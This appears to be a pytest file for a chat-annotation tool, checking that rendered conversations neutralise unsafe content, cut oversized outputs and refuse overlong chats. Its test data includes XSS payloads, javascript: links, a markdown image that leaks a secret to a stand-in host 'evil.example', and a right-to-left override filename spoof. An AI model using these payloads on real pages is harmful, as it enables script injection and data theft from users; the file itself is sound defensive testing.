"""What is in a conversation cannot harm, hide or grow out of bounds; what is cut says so."""

from __future__ import annotations

import json

import pytest

from annotation.chats.model import (
    MAX_RESULT,
    MAX_TURNS,
    Chat,
    Turn,
    clean_text,
    dump_chat,
    image_part,
    load_chat,
    result_part,
    text_part,
    tool_call,
)
from annotation.chats.page import view_chat
from annotation.chats.storage import keep_chat
from annotation.chats.text import plain_text
from crowdqc.errors import Invalid
from crowdqc.web.markdown import render_markdown
from tests.support.factories import make_project


def shown(text: str) -> str:
    """The HTML of a turn with this text."""
    view = view_chat(Chat(turns=(Turn(role="assistant", parts=(text_part(text),)),)))
    return str(view.turns[0].parts[0].html)


@pytest.mark.parametrize(
    ("text", "inside", "never"),
    [
        ("<img src=x onerror=alert(1)>", "&lt;img", "<img"),
        ("![steal](https://evil.example/?q=secret)", "[steal]", "evil.example"),
        ("[x](javascript:alert(1))", "x", "href"),
        (r"$\href{javascript:alert(1)}{x}$", "<mi>x</mi>", "javascript"),
        (r"$\text{<script>alert(1)</script>}$", "<math", "<script"),
        ("\x1b[31mred\x1b[0m", "red", "\x1b"),
        ("abc\u202etxt.exe", "\ufffd", "\u202e"),
        ("a $x^2$ b", "<msup>", "$"),
        ("Cost $5 and $10", "$5 and $10", "<math"),
    ],
)
def test_text_is_shown_without_what_could_harm(text: str, inside: str, never: str) -> None:
    html = shown(text)
    assert inside in html and never not in html


def test_characters_that_no_database_takes_are_replaced() -> None:
    chat = Chat(turns=(Turn(role="user", parts=(text_part("a\x00b\ud800c"),)),))
    stored = json.loads(json.dumps(json.loads(dump_chat(chat))))
    assert load_chat(stored).turns[0].text == "a\ufffdb\ufffdc"
    assert clean_text("line\r\nline") == "line\nline"


def test_large_outputs_are_cut_and_say_by_how_much() -> None:
    part = result_part("x" * 20_000_000)
    assert (len(part.text), part.cut) == (MAX_RESULT, 20_000_000 - MAX_RESULT)
    call = tool_call("read", {"a": "y" * 100_000})
    assert call.arguments_cut > 0
    view = view_chat(
        Chat(turns=(Turn(role="assistant", calls=(call.model_copy(update={"result": (part,)}),)),))
    )
    assert len(view.turns[0].calls[0].notes) == 2


@pytest.mark.parametrize(
    "address",
    [
        "data:image/svg+xml;base64,PHN2Zy8+",
        "data:text/html,<script>alert(1)</script>",
        "https://evil.example/pixel.png",
        "data:image/png;base64,!!!",
    ],
)
def test_images_are_kept_only_as_pictures_in_the_file(address: str) -> None:
    part = image_part(address)
    assert part.data == "" and part.note.startswith("not kept")


def test_image_in_the_file_is_kept() -> None:
    assert image_part("data:image/png;base64,iVBORw0K\nGgo=").data.endswith("iVBORw0KGgo=")


@pytest.mark.django_db
def test_endless_conversations_are_refused_by_name() -> None:
    turn = Turn(role="user", parts=(text_part("again"),))
    project = make_project()
    assert keep_chat(project, Chat(turns=(turn,) * MAX_TURNS)).turns == MAX_TURNS
    with pytest.raises(Invalid) as error:
        keep_chat(project, Chat(turns=(turn,) * (MAX_TURNS + 1)))
    assert "conversation" in error.value.fields


def test_plain_text_leaves_out_the_middle_and_says_how_much() -> None:
    turns = tuple(Turn(role="user", parts=(text_part(f"{at} " * 200),)) for at in range(100))
    text = plain_text(Chat(turns=turns), most=5_000)
    assert len(text) <= 5_000
    assert (
        text.startswith("[1] User: 0 ") and "turns left out]" in text and "[100] User: 99" in text
    )


def test_many_formulas_cost_in_proportion() -> None:
    html = render_markdown("$x^{2}$ " * 5_000, math=True)
    assert len(html) < 3_000_000
